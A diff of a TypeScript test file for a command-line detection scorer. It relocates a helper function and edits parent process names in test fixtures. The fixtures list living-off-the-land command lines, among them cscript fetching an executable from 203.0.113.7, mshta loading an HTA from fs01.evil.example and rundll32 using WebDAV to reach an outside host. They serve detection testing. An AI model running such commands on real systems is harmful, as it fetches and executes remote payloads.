@@ -1,18 +1,7 @@
 import { describe, expect, test } from 'vitest'
-import { parseLines, scoreLine } from '@/fixtures/detection/score-lines'
+import { scored } from '@/fixtures/detection/score-lines'
 
 const DEVIATION = 4
-
-/** Bits of a line on a host that nothing is known of, and what they are for. */
-function scored(line: string): { bits: number; codes: string[] } {
-  const [first] = parseLines(line)
-  const found = first === undefined ? null : scoreLine(first)
-  if (found === null) throw new Error(`no binary of the catalogue: ${line}`)
-  return {
-    bits: found.score.scoreMillibits / 1000,
-    codes: found.score.reasons.filter(({ millibits }) => millibits > 0).map(({ code }) => code),
-  }
-}
 
 const TASK = String.raw`svchost.exe ¦ CORP\ann ¦ C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`
 
@@ -107,7 +96,7 @@ describe('and what looks like it stays one', () => {
     String.raw`cscript.exe ¦ cscript .\drop.vbe ¦ cmd.exe`,
     String.raw`cscript.exe ¦ cscript C:\Windows\System32\manage-bde.wsf ¦ cmd.exe`,
     String.raw`cscript.exe ¦ cscript C:\Users\ann\AppData\Local\Temp\get.vbs http://203.0.113.7/a.exe ¦ cmd.exe`,
-    'regsvr32.exe ¦ regsvr32 MSCOMCTLS.OCX ¦ cmd.exe',
+    'regsvr32.exe ¦ regsvr32 MSCOMCTLS.OCX ¦ explorer.exe',
     'rundll32.exe ¦ rundll32.exe shell32.dll,SHCreateLocalServerRunDll {c08afd90-f2a1-11d1-8455-00a0c91f3880} -Embedding ¦ svchost.exe',
     String.raw`control.exe ¦ control.exe C:\Users\ann\Desktop\calc.cpl ¦ -`,
     String.raw`msiexec.exe ¦ msiexec.exe /i "C:\Users\ann\Downloads\4f50d6a520db0bcf43ebd8d5fda0245b9a74c788164c99a9236f4f11465a37af.msi" ¦ explorer.exe`,
@@ -120,7 +109,7 @@ describe('and what looks like it stays one', () => {
     String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie 203.0.113.9@80 http://203.0.113.9/notes ¦ svchost.exe`,
     String.raw`msdt.exe ¦ C:\Windows\system32\msdt.exe -path C:\Windows\diagnostics\index\PCWDiagnostic.xml -af C:\Users\ann\AppData\Local\Temp\PCWBE88.xml /skip TRUE ¦ cmd.exe`,
     String.raw`rasautou.exe ¦ rasautou -d C:\Users\ann\AppData\Roaming\Microsoft\Network\Connections\Pbk\a.dll -p run -e "VPN" ¦ svchost.exe`,
-    'regsvr32.exe ¦ regsvr32 /s scrrun2.dll ¦ cmd.exe',
+    'regsvr32.exe ¦ regsvr32 /s scrrun2.dll ¦ explorer.exe',
     String.raw`mshta.exe ¦ "C:\Windows\SysWOW64\mshta.exe" "\\fs01.evil.example\Apps\roster.hta" ¦ explorer.exe`,
     String.raw`msiexec.exe ¦ msiexec /i "C:\Windows\TEMP\Update.msi" /qn ¦ helper.exe@C:\ProgramData\Vendor\Downloads\helper.exe ¦ SYSTEM`,
     'fsutil.exe ¦ fsutil behavior set SymlinkEvaluation R2R:1 ¦ cmd.exe',
